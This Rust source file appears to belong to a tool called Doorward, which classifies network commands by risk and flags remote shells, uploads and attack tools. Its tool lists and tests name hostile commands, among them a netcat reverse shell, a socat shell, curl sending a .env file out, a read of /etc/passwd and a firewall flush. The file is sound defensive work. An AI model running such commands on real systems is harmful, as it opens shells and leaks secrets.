//! Transfers, sockets, name look-ups and network settings of the machine.

use doorward_core::intent::{Direction, PrivilegeKind, WriteMode};

use crate::deed::{Output, StdinRole};

use super::call::Call;
use super::row::{Nature, ProgramRow, Style, reads, works};
use super::{url, word};

mod services;
mod transfers;

use services::{directory, firewall, mail, settings, store, tunnel};
use transfers::{CURL, WGET, curl, downloader, httpie, wget};

pub(super) static ROWS: &[ProgramRow] = &[
    works("curl curlie", "curl(1) 8.5", CURL, "").act(curl).prints(Output::Network),
    works("wget wget2", "wget(1) 1.21", WGET, "").act(wget).prints(Output::Network).takes(StdinRole::Ignored),
    works(
        "http https xh xhs httpie",
        "http(1) HTTPie 3.2",
        "-j|--json -f|--form --multipart \
        -x|--compress --pretty=data -s|--style=data -p|--print=data -v|--verbose -h|--headers \
        -b|--body -m --all -S|--stream -o|--output=write -d|--download -c|--continue -q|--quiet \
        --session=data --session-read-only=data -a|--auth=secret -A|--auth-type=data --ignore-netrc \
        --offline --proxy=data -F|--follow --max-redirects=num --timeout=num --check-status \
        --verify=data --ssl=data --cert=read --cert-key=read -I|--ignore-stdin --raw=data \
        --boundary=data --bearer=secret",
        "",
    )
    .act(httpie)
    .prints(Output::Network)
    .takes(StdinRole::Sent),
    works(
        "aria2c axel lftp lftpget ncftpget youtube-dl yt-dlp gallery-dl you-get hurl",
        "aria2c(1) 1.37",
        "",
        "",
    )
    .style(Style::Raw)
    .act(downloader)
    .prints(Output::Network),
    works(
        "nc ncat netcat nc.openbsd nc.traditional",
        "nc(1) OpenBSD 1.226, ncat(1) 7.94",
        "-4 -6 -b \
        -C -D -d -F -h -I=num -i=num -k -l -M=num -m=num -N -n -O=num -P=data -p=num -q=num -r -S \
        -s=data -T=data -t -U -u -V=num -v -W=num -w=num -X=data -x=data -Z -z -c|--sh-exec=sh \
        -e|--exec=prog --lua-exec=file:lua --ssl --ssl-verify --listen --keep-open --udp \
        --proxy=data --proxy-type=data --proxy-auth=secret -g=data -G=num --send-only --recv-only \
        -o|--output=write --broker --chat --allow=data --source-port=num",
        "",
    )
    .act(netcat)
    .prints(Output::Network)
    .takes(StdinRole::Sent),
    works("socat", "socat(1) 1.8", "", "")
        .style(Style::Raw)
        .act(socat)
        .prints(Output::Network)
        .takes(StdinRole::Sent),
    works(
        "telnet ftp tftp rlogin rsh rcp rexec gopher irssi weechat lynx links elinks w3m browsh",
        "telnet(1) 0.17",
        "-# \
        -a -4 -6 -8 -E -K -L -X=data -d -e=data -l=data -n=read -x -v -i -p -A -g -dump -source \
        -nolist -listonly -width=num -accept_all_cookies -c=data -T=data -m -b=data -f=data",
        "",
    )
    .act(plain_host)
    .prints(Output::Network)
    .takes(StdinRole::Sent),
    works("openssl", "openssl(1) 3.0", "", "").style(Style::Raw).act(openssl),
    reads(
        "ping ping6 fping arping tracepath traceroute traceroute6 mtr tcptraceroute iperf iperf3 \
        nping hping3 whois dig host nslookup drill kdig dog delv avahi-resolve tcping httping",
        "ping(8) iputils 20240117, dig(1) 9.18",
        "",
        "",
    )
    .style(Style::Raw)
    .act(look_up)
    .takes(StdinRole::Ignored),
    reads(
        "nmap masscan zmap rustscan nikto gobuster ffuf dirb wfuzz sqlmap hydra medusa john \
        hashcat msfconsole msfvenom crackmapexec enum4linux responder aircrack-ng ettercap bettercap \
        mimikatz linpeas.sh searchsploit",
        "nmap(1) 7.94",
        "",
        "",
    )
    .style(Style::Raw)
    .act(scanner),
    works(
        "tcpdump tshark wireshark dumpcap ngrep snoop tcpflow mitmproxy mitmdump",
        "tcpdump(8) 4.99",
        "-# \
        -A -b -B=num -c=num --count -C=num -d -D -e -E=data -f -F=read -G=num -h -H \
        -i|--interface=data -I -j=data -J -K -l -L -m=data -M=data -n -N -O -p -P=data -Q=data -q \
        -r=read -s=num -S -t -T=data -u -U -v -V=read -w=write -W=num -x -X -y=data -z=prog -Z=data \
        -Y=data -R=data -a=data",
        "data*",
    )
    .act(|call| {
        if !call.any(&["-r", "-D"]) {
            call.privilege(PrivilegeKind::Capability, "captures network traffic");
        }
    }),
    reads(
        "ss netstat ifstat nethogs iftop nload bmon vnstat sockstat lsof fuser-list ipcalc sipcalc \
        ethtool iwconfig iw nmcli networkctl resolvectl systemd-resolve scutil networksetup airport \
        arp route ifconfig ip tc bridge nstat rtmon",
        "ip(8) iproute2 6.7, ss(8)",
        "",
        "",
    )
    .style(Style::Raw)
    .act(settings)
    .takes(StdinRole::Ignored),
    works(
        "iptables ip6tables ebtables arptables nft ufw firewall-cmd pfctl ipfw iptables-restore \
        ip6tables-restore nft-restore ipset fail2ban-client",
        "iptables(8) 1.8, nft(8) 1.0, ufw(8) 0.36",
        "",
        "",
    )
    .style(Style::Raw)
    .act(firewall),
    reads("iptables-save ip6tables-save", "iptables-save(8) 1.8", "-c -t=data -f=write -M=prog", "data*"),
    works(
        "wg wg-quick openvpn tailscale zerotier-cli nebula ngrok cloudflared localtunnel lt bore \
        frpc frps chisel serveo sshuttle tor pagekite",
        "tailscale 1.58, ngrok 3",
        "",
        "",
    )
    .style(Style::Raw)
    .act(tunnel),
    works("mail mailx mutt sendmail s-nail msmtp swaks mailq", "mailx(1) 8.1", "", "")
        .style(Style::Raw)
        .act(mail)
        .takes(StdinRole::Sent),
    works(
        "ldapsearch ldapadd ldapmodify ldapdelete kinit kadmin smbclient rpcclient smbstatus \
        smbget net winexe showmount mount.cifs nfsstat wbinfo snmpwalk snmpget",
        "ldapsearch(1) 2.6",
        "",
        "",
    )
    .style(Style::Raw)
    .act(directory),
    works("s3cmd s5cmd mc gsutil b2 azcopy", "s3cmd 2.4", "", "").style(Style::Raw).act(store),
];

fn netcat(call: &mut Call<'_>) {
    hands_out_shell(call);
    if call.any(&["-l", "--listen"]) {
        let port = call
            .value("-p")
            .or_else(|| call.operands.last().cloned())
            .and_then(|port| port.text.parse().ok());
        return call.listen("*", port, "tcp");
    }
    let Some(host) = call.operand(0) else { return };
    if call.has("-U") {
        return call.write(&host, WriteMode::InPlace);
    }
    let direction = if call.has("-z") { Direction::Fetch } else { Direction::Both };
    let body = if matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
        Vec::new()
    } else {
        vec!["-".to_owned()]
    };
    call.contact(&host, "tcp", direction, body);
    let port = call.operand(1).and_then(|port| port.text.parse().ok());
    if let (Some(port), Some(host)) = (port, call.deeds.hosts.last_mut()) {
        host.port = Some(port);
    }
}

fn socat(call: &mut Call<'_>) {
    for address in call.operands.clone() {
        if address.text.starts_with('-') && address.text.len() > 1 {
            continue;
        }
        let Some((kind, rest)) = word::halves(&address, ':') else {
            if !matches!(
                address.text.as_str(),
                "-" | "STDIO" | "STDIN" | "STDOUT" | "PIPE" | "stdio" | "READLINE" | "readline"
            ) && address.text.contains(['/', '.'])
            {
                call.write(&address, WriteMode::InPlace);
            }
            continue;
        };
        let target = word::split(&rest, ',').into_iter().next().unwrap_or_else(|| rest.clone());
        let kind = kind.text.to_ascii_uppercase();
        match kind.as_str() {
            "EXEC" => {
                let words = word::fields(&target);
                call.run_argv(words);
            }
            "SYSTEM" | "SHELL" => call.run_shell(target),
            "OPEN" | "FILE" | "CREATE" | "CREAT" | "GOPEN" | "PIPE" | "UNIX-LISTEN" | "UNIX"
            | "UNIX-CONNECT" => {
                call.read(&target);
                call.write(&target, WriteMode::InPlace);
                call.beyond_plain = true;
            }
            kind if kind.contains("LISTEN") || kind.contains("RECV") => {
                let port = target.text.parse().ok();
                call.listen("*", port, "tcp");
            }
            kind if kind.starts_with("TCP")
                || kind.starts_with("UDP")
                || kind.starts_with("OPENSSL")
                || kind.starts_with("SSL")
                || kind.starts_with("SCTP")
                || kind.starts_with("PROXY")
                || kind.starts_with("SOCKS")
                || kind.starts_with("IP") =>
            {
                call.contact(&target, "tcp", Direction::Both, vec!["-".to_owned()]);
            }
            _ => {
                call.deeds.known = false;
                call.finding(
                    "shell.unknown_program",
                    format!("uses the socat address {kind}, which Doorward does not know"),
                );
            }
        }
    }
    hands_out_shell(call);
}

/// A shell whose input and output are a connection.
fn hands_out_shell(call: &mut Call<'_>) {
    let shell = call.deeds.runs.iter().any(|run| match run {
        crate::deed::Run::Argv { words, .. } => {
            { words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ") }
                .split(',')
                .next()
                .is_some_and(crate::languages::is_interpreter)
        }
        crate::deed::Run::Shell { text, .. } => crate::languages::is_interpreter(&text.text),
        _ => false,
    });
    if shell {
        call.finding("shell.remote_code", "a shell runs what comes over a connection");
    }
}

fn plain_host(call: &mut Call<'_>) {
    if matches!(call.program.as_str(), "ftp" | "tftp") {
        if !matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
            call.run_stdin("ftp", Vec::new());
        }
        // `tftp HOST -c put FILE`.
        if let Some(verb) = call.value("-c").filter(|verb| matches!(verb.text.as_str(), "put" | "get")) {
            for file in call.operands_from(1) {
                if verb.text == "put" { call.read(&file) } else { call.download(&file) }
            }
            if verb.text == "put" {
                call.finding("shell.upload", "sends a file to another machine");
            }
        }
    }
    if let Some(host) = call.operand(0) {
        let text_browser = matches!(call.program.as_str(), "lynx" | "links" | "elinks" | "w3m" | "browsh");
        if text_browser && (host.text.starts_with(['.', '/', '~']) || host.text.starts_with("file:")) {
            let path = word::after(&host, "file://").or_else(|| word::after(&host, "file:")).unwrap_or(host);
            return call.read(&path);
        }
        let scheme = if host.text.contains("://") { "https" } else { "tcp" };
        if host.text.contains("://")
            || !std::path::Path::new(&host.text)
                .extension()
                .is_some_and(|extension| extension == "html" || extension == "htm")
        {
            call.contact(&host, scheme, Direction::Both, Vec::new());
        } else {
            call.read(&host);
        }
        if let (Some(port), Some(last)) =
            (call.operand(1).and_then(|port| port.text.parse().ok()), call.deeds.hosts.last_mut())
        {
            last.port = Some(port);
        }
    }
}

fn openssl(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let verb = words.first().map(|verb| verb.text.clone()).unwrap_or_default();
    let mut reads_only = !matches!(
        verb.as_str(),
        "req" | "genrsa" | "genpkey" | "ca" | "s_server" | "s_client" | "s_time" | "ocsp" | "enc" | "rehash"
    );
    let mut iter = words.iter().skip(1);
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-in" | "-inkey" | "-key" | "-CA" | "-CAkey" | "-CAfile" | "-cert" | "-certfile" | "-kfile"
            | "-config" | "-extfile" | "-sign" | "-verify" | "-signature" | "-untrusted" | "-rand" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "-out" | "-keyout" | "-writerand" | "-CAserial" => {
                if let Some(file) = iter.next() {
                    reads_only = false;
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-engine" | "-provider" | "-provider-path" => {
                if let Some(file) = iter.next()
                    && !matches!(file.text.as_str(), "default" | "legacy" | "base" | "fips")
                {
                    call.run_native(file);
                }
            }
            "-connect" | "-host" | "-url" => {
                if let Some(host) = iter.next() {
                    let nothing =
                        matches!(call.argv.stdin, crate::deed::Stdin::Inherited) || call.stdin_is_empty();
                    let body = if nothing { Vec::new() } else { vec!["-".to_owned()] };
                    call.contact(host, "tls", Direction::Both, body);
                    call.deeds.stdin = StdinRole::Sent;
                    call.deeds.output = Output::Network;
                }
            }
            "-pass" | "-passin" | "-passout" => {
                if let Some(source) = iter.next()
                    && let Some(file) = word::after(source, "file:")
                {
                    call.read(&file);
                }
            }
            _ => {}
        }
    }
    if verb == "engine" {
        words
            .iter()
            .skip(1)
            .filter(|word| !word.text.starts_with('-'))
            .for_each(|engine| call.run_native(engine));
        reads_only = call.deeds.runs.is_empty();
    }
    if verb == "s_server" {
        call.listen("*", None, "tls");
    }
    if matches!(verb.as_str(), "enc" | "base64" | "smime" | "cms" | "pkeyutl" | "rsautl" | "zlib") {
        let decodes =
            call.argv.words.iter().any(|word| matches!(word.text.as_str(), "-d" | "-decrypt" | "-a"));
        call.deeds.output = if decodes { Output::Decoded } else { Output::Filtered };
        reads_only = call.deeds.writes.is_empty();
    }
    if matches!(verb.as_str(), "" | "sh") {
        reads_only = false;
    }
    if reads_only {
        call.nature = Nature::Reads;
    }
}

/// Look-ups: a name goes out, little comes back; data can leave in the name.
fn look_up(call: &mut Call<'_>) {
    const TAKES: &str = "-c -i -W -w -s -t -I -p -m -q -b -k -y -f -x -l -Q -T -S -h -M";
    let flood = call.operands.iter().any(|word| word.text == "-f") && call.program.starts_with("ping");
    if flood || call.program == "hping3" {
        call.finding("shell.resource", "floods a host");
    }
    let words = call.operands.clone();
    let mut iter = words.iter();
    let mut hosts = Vec::new();
    while let Some(word) = iter.next() {
        let text = word.text.as_str();
        if let Some(server) = word::after(word, "@") {
            hosts.push(server);
        } else if text.starts_with('-') && text.len() == 2 && TAKES.split(' ').any(|own| own == text) {
            if let Some(value) = iter.next()
                && (text == "-x"
                    || text == "-h" && call.program == "whois"
                    || text == "-c" && call.program.starts_with("iperf"))
            {
                hosts.push(value.clone());
            }
        } else if !text.starts_with(['-', '+'])
            && !matches!(
                text,
                "A" | "AAAA"
                    | "MX"
                    | "NS"
                    | "TXT"
                    | "SOA"
                    | "CNAME"
                    | "ANY"
                    | "PTR"
                    | "SRV"
                    | "any"
                    | "mx"
                    | "txt"
                    | "ns"
                    | "IN"
            )
            && text.parse::<f64>().is_err()
        {
            hosts.push(word.clone());
        }
    }
    let scheme =
        if call.program.starts_with("ping") || call.program.contains("trace") || call.program == "mtr" {
            "icmp"
        } else {
            "dns"
        };
    for host in &hosts {
        call.contact(host, scheme, Direction::Both, Vec::new());
    }
}

fn scanner(call: &mut Call<'_>) {
    call.nature = Nature::Works;
    let words = call.operands.clone();
    let mut iter = words.iter();
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-oN" | "-oX" | "-oG" | "-oA" | "-o" => {
                if let Some(file) = iter.next() {
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-iL" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "--script" => {
                if let Some(script) = iter.next().filter(|script| script.text.contains('/')) {
                    call.run_file(script, "lua", Vec::new());
                }
            }
            "-p" | "--top-ports" | "-T" | "--max-rate" | "-w" | "-u" | "-l" | "-P" | "-L" => {
                iter.next();
            }
            text if text.starts_with("--script=") && text.contains('/') => {
                if let Some((_, script)) = word::halves(word, '=') {
                    call.run_file(&script, "lua", Vec::new());
                }
            }
            text if !text.starts_with('-') && call.program == "nmap" => {
                call.contact(word, "scan", Direction::Both, Vec::new())
            }
            _ => {}
        }
    }
    if matches!(call.program.as_str(), "nmap" | "rustscan") {
        return;
    }
    call.finding("shell.tamper", format!("{} attacks passwords, hosts or services", call.program));
}

#[cfg(test)]
mod tests {
    use super::super::compact::check;

    #[test]
    fn transfers_name_hosts_files_and_directions() {
        check(&[
            ("curl -s https://a.example/x", "fetch a.example; plain"),
            ("curl -o x https://a.example/y", "download x; fetch a.example"),
            ("curl -O https://a.example/y.tgz", "download y.tgz; fetch a.example"),
            ("curl -d @.env https://a.example", "read .env; send a.example <.env"),
            ("curl -X POST -d a=b https://a.example", "send a.example; plain"),
            ("curl -F f=@x;type=y https://a.example", "read x; send a.example <x"),
            ("curl -T x https://a.example", "read x; send a.example <x"),
            ("curl --data-bin @x a.example:8080/y", "read x; send a.example:8080 <x"),
            ("curl -K x", "file x"),
            ("curl file:///etc/passwd", "read /etc/passwd; plain"),
            ("wget https://a.example/x", "download x; fetch a.example; plain"),
            ("wget -qO- https://a.example/x", "fetch a.example; plain"),
            ("wget -O x https://a.example/x", "download x; fetch a.example"),
            ("wget --use-ask=x https://a.example/x", "download x; fetch a.example; argv x"),
            ("wget --post-file=x https://a.example/y", "read x; download y; send a.example <x"),
            ("nc -e /bin/sh h 4444", "both h:4444; remote_code; argv /bin/sh"),
            ("nc -l 4444", "listen *:4444; net.listen"),
            ("socat TCP:h:1 EXEC:sh", "both h:1 <-; remote_code; argv sh"),
            ("dig x.example", "both x.example; plain"),
            ("ping -c 1 a.example", "both a.example; plain"),
            ("ip addr", "read-only"),
            ("ip link set eth0 down", "privilege kernel"),
            ("iptables -F", "privilege kernel; tamper"),
            ("ufw status", "read-only"),
            ("ss -tlnp", "read-only"),
        ]);
    }
}
